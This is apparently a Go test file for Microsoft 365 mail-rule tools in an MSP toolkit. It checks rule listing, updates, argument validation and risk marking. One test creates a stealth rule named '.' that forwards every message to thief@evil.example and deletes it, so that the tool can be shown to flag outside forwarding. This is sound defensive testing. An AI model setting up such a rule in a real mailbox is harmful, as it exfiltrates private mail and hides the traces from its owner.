package graph_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/msptoolbelt/toolbelt/graph"
	"github.com/msptoolbelt/toolbelt/graph/graphtest"
	"github.com/msptoolbelt/toolbelt/mcptools"
)

func TestRulesAreReadable(t *testing.T) {
	s := newSuite(t, graphtest.Options{})
	var rules graph.MailRules
	s.into(t, "m365_mail_rules", nil, &rules)
	want := "[when sender contains no-reply@monitoring.nordlicht.example: move to Alerts; stop here][when from tom.lindqvist@nordlicht.example: mark importance high]"
	got := ""
	for _, r := range rules.Rules {
		got += fmt.Sprintf("[when %s: %s]", r.When, r.Then)
	}
	if got != want {
		t.Errorf("got %s", got)
	}
}

// The rule of a thief: forward everything, hide the traces.
func TestRulesThatLeadOutsideAreNamed(t *testing.T) {
	s := newSuite(t, graphtest.Options{})
	result := s.call(t, "m365_mail_rule_edit", args{"action": "create", "name": ".", "forward_to": []string{"thief@evil.example", "tom.lindqvist@nordlicht.example"}, "delete": true})
	if result["done"] != "created" || result["ignored"] != nil {
		t.Errorf("got %v", result)
	}
	var rules graph.MailRules
	s.into(t, "m365_mail_rules", args{"mailbox": graphtest.SignedInUser}, &rules)
	found := false
	for _, r := range rules.Rules {
		if r.Name == "." {
			found = true
			if fmt.Sprint(r.Outside) != "[thief@evil.example]" || r.When != "every message" || !strings.Contains(r.Then, "move to Deleted Items") {
				t.Errorf("got %+v", r)
			}
		}
	}
	if !found {
		t.Errorf("got %+v", rules)
	}
}

// Whoever may be asked is asked before mail is forwarded.
func TestRuleEditIsRisky(t *testing.T) {
	s := newSuite(t, graphtest.Options{})
	tool, _ := s.tools.Tool("m365_mail_rule_edit")
	if spec := tool.Spec(); spec.Effect != mcptools.Destructive || spec.Marks&(mcptools.Privileged|mcptools.Outbound) != mcptools.Privileged|mcptools.Outbound || !mcptools.Risky(spec) {
		t.Errorf("got %v %v", spec.Effect, spec.Marks)
	}
}

// A change of one condition keeps the others, those that no argument names, too.
func TestRuleUpdateKeepsTheRest(t *testing.T) {
	s := newSuite(t, graphtest.Options{})
	s.call(t, "m365_mail_rule_edit", args{"action": "update", "rule": "Flag mails from Tom", "name": "Tom", "subject_contains": []string{"hours"}, "move_to": "archive", "enabled": false})
	var rules graph.MailRules
	s.into(t, "m365_mail_rules", nil, &rules)
	for _, r := range rules.Rules {
		if r.Name != "Tom" {
			continue
		}
		if r.Enabled || r.When != "from tom.lindqvist@nordlicht.example; subject contains hours" || r.Then != "mark importance high; move to Archive" {
			t.Errorf("got %+v", r)
		}
		return
	}
	t.Errorf("got %+v", rules)
}

func TestWrongRuleEdits(t *testing.T) {
	s := newSuite(t, graphtest.Options{})
	for _, wrong := range []args{
		{"action": "create", "name": "x"}, {"action": "create", "delete": true}, {"action": "update", "rule": "Flag mails from Tom"},
		{"action": "create", "name": "x", "forward_to": []string{"Tom"}}, {"action": "delete"},
	} {
		s.fails(t, mcptools.CodeInvalidArguments, "m365_mail_rule_edit", wrong)
	}
	if e := s.fails(t, mcptools.CodeNotFound, "m365_mail_rule_edit", args{"action": "delete", "rule": "Nothing"}); !strings.Contains(e.Hint, "Flag mails from Tom") {
		t.Error(e)
	}
	if e := s.fails(t, mcptools.CodeAmbiguous, "m365_mail_rule_edit", args{"action": "delete", "rule": "Flag"}); !strings.Contains(e.Message, "Flag mails from Tom") {
		t.Error(e)
	}
	s.call(t, "m365_mail_rule_edit", args{"action": "delete", "rule": "flag mails from tom"})
}
